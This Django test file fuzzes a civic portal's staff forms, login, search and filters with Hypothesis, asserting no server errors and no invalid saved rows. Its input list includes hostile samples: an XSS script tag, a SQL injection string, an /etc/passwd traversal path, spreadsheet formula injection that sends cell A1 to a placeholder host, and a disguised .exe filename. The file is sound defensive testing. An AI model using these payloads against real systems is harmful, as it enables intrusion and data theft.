"""Hostile input on every staff form: random, huge, odd-Unicode, NUL-containing and wrongly
typed values. Never a 5xx; a re-rendered form (200) saved nothing at all; an accepted one
(302) saved only rows that pass the model's own full_clean().

The fields are read from each page the way a browser would (tests/reliability/forms.py)."""
import datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from budget.models import BudgetClassification, BudgetLine, BudgetYear
from groups.models import GroupActivity, InitiativeGroup, Membership, Person
from hearings.models import DevelopmentProgramme, Hearing, HearingDocument, Proposal, ProposalStatusChange
from portal.models import CouncilPack, CouncilPackItem, CouncilSession
from projects.models import FundingContribution, ProgressPhoto, ProgressUpdate, Project
from tests.budget.factories import BudgetLineFactory, BudgetYearFactory
from tests.factories import VillageFactory, staff_user
from tests.groups.factories import ActivityFactory, GroupFactory, MembershipFactory
from tests.hearings.factories import HearingFactory, ProgrammeFactory, ProposalFactory
from tests.projects.factories import ContributionFactory, ProjectFactory
from tests.reliability.forms import main_form

pytestmark = pytest.mark.django_db

ODD = [
    "я" * 100_000,                       # huge
    "\u202eтексттин тескериси\u202c",   # right-to-left override
    "\u200f\u200e\u200b\ufeff",          # RTL/LTR marks, zero-width space, BOM
    "а\u0301\u0308\u0327" * 500,         # stacked combining marks
    "😀👩‍👩‍👧🇰🇬" * 20,                      # emoji, ZWJ sequences, flags
    "x\x00y", "\x00",                    # NUL: PostgreSQL refuses it in text
    "-1", "0", "1e309", "NaN", "inf", "99999999999999999999999999", "250 000,50", "١٢٣",
    "2024-02-30", "31.12.2021", "0000-00-00", "9999-12-31T99:99",
    " ", "\t\n", "<script>alert(1)</script>", "' OR 1=1 --", "../../etc/passwd", "%s%n{0}",
    # Pasted from Word and Excel: manual line break, page break, separators, other controls.
    "Бюджет\x0bэкинчи сап", "\x0c", "a\x1c\x1d\x1eb\x85c\u2028d\u2029", "\x01\x07\x1b\x7f\x9f",
    # Formula prefixes that must never run in a spreadsheet.
    '=HYPERLINK("http://example.invalid/?q="&A1,"details")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
]
CONTROLS = set(chr(code) for code in [*range(0, 9), *range(11, 32), *range(0x7f, 0xa0), 0x2028, 0x2029])
hostile_text = st.one_of(
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60),
    st.sampled_from(ODD),
    st.integers(min_value=-10**20, max_value=10**20).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)
# The pages change as examples are saved (versions, new rows), so an example drawn again later
# need not draw the same way: no replaying from a database, no shrinking (Hypothesis would
# report FlakyStrategyDefinition instead of the failure), and the same examples on every run
# so that CI is repeatable; the failing POST is printed whole by the assertion anyway.
SETTINGS = settings(max_examples=15, deadline=None, database=None, derandomize=True,
                    phases=[Phase.explicit, Phase.generate],
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


@pytest.fixture
def world(db):
    """One of everything the staff forms edit."""
    village = VillageFactory(name="Айры-Там")
    hearing = HearingFactory(village=village)
    group = GroupFactory()
    membership = MembershipFactory(group=group)
    year = BudgetYearFactory(year=2030)
    BudgetLineFactory(budget_year=year, name="Китепканалар")
    project = ProjectFactory()
    ContributionFactory(project=project)
    return {
        "hearing": hearing, "proposal": ProposalFactory(hearing=hearing), "programme": ProgrammeFactory(),
        "group": group, "person": membership.person, "activity": ActivityFactory(group=group),
        "year": year, "classification": BudgetClassification.objects.order_by("pk").first(),
        "project": project,
        "session": CouncilSession.objects.create(convocation=7, number=3, date=datetime.date(2022, 2, 10),
                                                 agenda="Бюджет"),
    }


HEARING_MODELS = [Hearing, HearingDocument, Proposal, ProposalStatusChange, DevelopmentProgramme]
GROUP_MODELS = [InitiativeGroup, Person, Membership, GroupActivity]
BUDGET_MODELS = [BudgetYear, BudgetLine, BudgetClassification]
PROJECT_MODELS = [Project, FundingContribution, ProgressUpdate, ProgressPhoto]
COUNCIL_MODELS = [CouncilSession, CouncilPack, CouncilPackItem]

# (URL name, arguments from the world, the models the form may write)
PAGES = [
    ("hearings:staff_create", lambda w: [], HEARING_MODELS),
    ("hearings:staff_edit", lambda w: [w["hearing"].pk], HEARING_MODELS),
    ("hearings:staff_attendance", lambda w: [w["hearing"].pk], HEARING_MODELS),
    ("hearings:staff_document", lambda w: [w["hearing"].pk], HEARING_MODELS),
    ("hearings:staff_proposals_add", lambda w: [w["hearing"].pk], HEARING_MODELS),
    ("hearings:staff_decide", lambda w: [w["proposal"].pk], HEARING_MODELS),
    ("hearings:staff_programme_create", lambda w: [], HEARING_MODELS),
    ("hearings:staff_programme_edit", lambda w: [w["programme"].pk], HEARING_MODELS),
    ("groups:staff_create", lambda w: [], GROUP_MODELS),
    ("groups:staff_edit", lambda w: [w["group"].pk], GROUP_MODELS),
    ("groups:staff_add_member", lambda w: [w["group"].pk], GROUP_MODELS),
    ("groups:staff_add_activity", lambda w: [w["group"].pk], GROUP_MODELS),
    ("groups:staff_activity_edit", lambda w: [w["activity"].pk], GROUP_MODELS),
    ("groups:staff_person_edit", lambda w: [w["person"].pk], GROUP_MODELS),
    ("budget:staff_create", lambda w: [], BUDGET_MODELS),
    ("budget:staff_year", lambda w: [w["year"].year], BUDGET_MODELS),
    ("budget:staff_lines", lambda w: [w["year"].year], BUDGET_MODELS),
    ("budget:staff_execution", lambda w: [w["year"].year], BUDGET_MODELS),
    ("budget:staff_import", lambda w: [w["year"].year], BUDGET_MODELS),
    ("budget:staff_classification_create", lambda w: [], BUDGET_MODELS),
    ("budget:staff_classification_edit", lambda w: [w["classification"].pk], BUDGET_MODELS),
    ("projects:create", lambda w: [], PROJECT_MODELS),
    ("projects:edit", lambda w: [w["project"].pk], PROJECT_MODELS),
    ("projects:update_create", lambda w: [w["project"].pk], PROJECT_MODELS),
    ("portal:council_session_create", lambda w: [], COUNCIL_MODELS),
    ("portal:council_session_edit", lambda w: [w["session"].pk], COUNCIL_MODELS),
    ("portal:council_pack_create", lambda w: [w["session"].pk], COUNCIL_MODELS),
]

HEAVY = {"budget:staff_lines", "projects:create", "projects:edit", "projects:update_create"}


def snapshot(models):
    return {model.__name__: list(model.objects.order_by("pk").values()) for model in models}


def invalid_rows(models):
    """(model, pk) of every row that fails the model's own validation."""
    bad = set()
    for model in models:
        for obj in model.objects.all():
            try:
                obj.full_clean()
            except Exception:  # noqa: BLE001 - any refusal counts
                bad.add((model.__name__, obj.pk))
    return bad


def stored_controls(models):
    """(model, field) of every stored text holding a control character (tab and newline aside)."""
    found = set()
    for model in models:
        for row in model.objects.values():
            for field, value in row.items():
                if isinstance(value, str) and CONTROLS & set(value):
                    found.add((model.__name__, field))
    return found


MANAGEMENT = ("TOTAL_FORMS", "INITIAL_FORMS", "MIN_NUM_FORMS", "MAX_NUM_FORMS")


def field_value(draw, name, form):
    original = form["fields"].get(name)
    if name.endswith(MANAGEMENT):
        # Wrong types and small counts; not ~1000 forms (Django's absolute_max bounds that, but
        # rendering a thousand rows per example would make this file slow, not find bugs).
        return draw(st.sampled_from([original or "", "", "-1", "abc", "x\x00", "1e3", "5", "2.5", "١"]))
    # Mostly the page's own value, so that one bad field among good ones reaches the deeper
    # checks (formset clean(), services) instead of stopping at the first field error.
    pick = draw(st.integers(0, 9))
    if pick < 5:
        return original if original is not None else ""
    if pick < 7 and form["options"].get(name):
        return draw(st.sampled_from(form["options"][name]))
    return draw(hostile_text)


def hostile_post(draw, form):
    data, files = {}, {}
    for name, kind in form["kinds"].items():
        if name == "csrfmiddlewaretoken" or kind in ("submit", "button"):
            continue
        if kind == "file":
            if draw(st.booleans()):
                filename = draw(st.sampled_from(["x.pdf", "photo.jpg", "budget.csv", "budget.xlsx", "a.exe",
                                                 "\u202egpj.exe", "../../x.csv", "ы" * 300 + ".png"]))
                files[name] = SimpleUploadedFile(filename, draw(st.binary(max_size=4096)))
            continue
        if kind in ("checkbox", "radio") and draw(st.booleans()):
            continue  # unticked: not sent at all
        data[name] = field_value(draw, name, form)
    return {**data, **files}


@pytest.mark.parametrize("name,args,models", PAGES, ids=[page[0] for page in PAGES])
def test_staff_forms_survive_hostile_input(world, name, args, models):
    client = Client()
    client.force_login(staff_user(username="hostile-tester"), backend="django.contrib.auth.backends.ModelBackend")
    url = reverse(name, args=args(world))
    already_invalid = invalid_rows(models)

    read = {}

    def current_form():
        # Read again only after an accepted save (the version it carries has moved on).
        if "form" not in read:
            page = client.get(url)
            assert page.status_code == 200
            read["form"] = main_form(page.content.decode())
        return read["form"]

    # The big formset pages (budget lines, projects) cost most: fewer examples there.
    @settings(SETTINGS, max_examples=15 if name in HEAVY else 20)
    @given(st.data())
    def post_hostile(hypothesis_data):
        form = current_form()
        before = snapshot(models)
        posted = hostile_post(hypothesis_data.draw, form)
        response = client.post(url, posted)
        assert response.status_code < 500, posted
        if response.status_code == 200:
            assert snapshot(models) == before, f"a refused form saved something: {posted!r}"
        elif response.status_code == 302:
            read.clear()
            assert invalid_rows(models) <= already_invalid, "an accepted form saved an invalid row"
            assert not stored_controls(models), "an accepted form saved a control character"

    post_hostile()


@SETTINGS
@given(username=hostile_text, password=hostile_text)
def test_the_login_form_survives_hostile_input(client, username, password):
    response = client.post(reverse("login"), {"username": username, "password": password})
    assert response.status_code < 500


@SETTINGS
@given(query=hostile_text)
def test_search_survives_hostile_queries(client, query):
    assert client.get(reverse("portal:search"), {"q": query}).status_code < 500


@SETTINGS
@given(query=hostile_text)
def test_public_filters_survive_hostile_queries(client, query):
    for name in ("hearings:proposals", "projects:list", "groups:list"):
        response = client.get(reverse(name), {"q": query, "topic": query, "status": query, "page": query,
                                              "village": query, "year": query})
        assert response.status_code < 500


OUT_OF_RANGE_IDS = ["99999999999999999999999999", "-99999999999999999999999999", str(2**63)]


@pytest.mark.parametrize("name,args,models", PAGES, ids=[page[0] for page in PAGES])
def test_ids_beyond_what_the_database_holds_are_an_invalid_choice(world, name, args, models):
    """Every choice of objects (selects, checkbox lists) on every staff form answers an id
    larger than any database integer with "not a valid choice", never a 500 (SQLite raises
    OverflowError for ModelMultipleChoiceField; core's SafeModelMultipleChoiceField refuses it)."""
    client = Client()
    client.force_login(staff_user(username="id-tester"), backend="django.contrib.auth.backends.ModelBackend")
    url = reverse(name, args=args(world))
    form = main_form(client.get(url).content.decode())
    choices = [field for field, kind in form["kinds"].items()
               if kind in ("select", "checkbox") and any(value.isdigit() for value in form["options"].get(field, []))]
    for field in choices:
        before = snapshot(models)
        for value in OUT_OF_RANGE_IDS:
            data = {key: value_ for key, value_ in form["fields"].items()}
            data[field] = [value]
            response = client.post(url, data)
            assert response.status_code == 200, (field, value, response.status_code)
            assert snapshot(models) == before, f"{field}={value} saved something"


def test_the_council_pack_form_refuses_an_id_beyond_range(world):
    client = Client()
    client.force_login(staff_user(username="pack-tester"), backend="django.contrib.auth.backends.ModelBackend")
    url = reverse("portal:council_pack_create", args=[world["session"].pk])
    for field in ("hearings", "projects", "budget_year"):
        response = client.post(url, {field: [OUT_OF_RANGE_IDS[0]]})
        assert response.status_code == 200
        assert "valid choice" in response.content.decode()
    assert not CouncilPack.objects.exists()
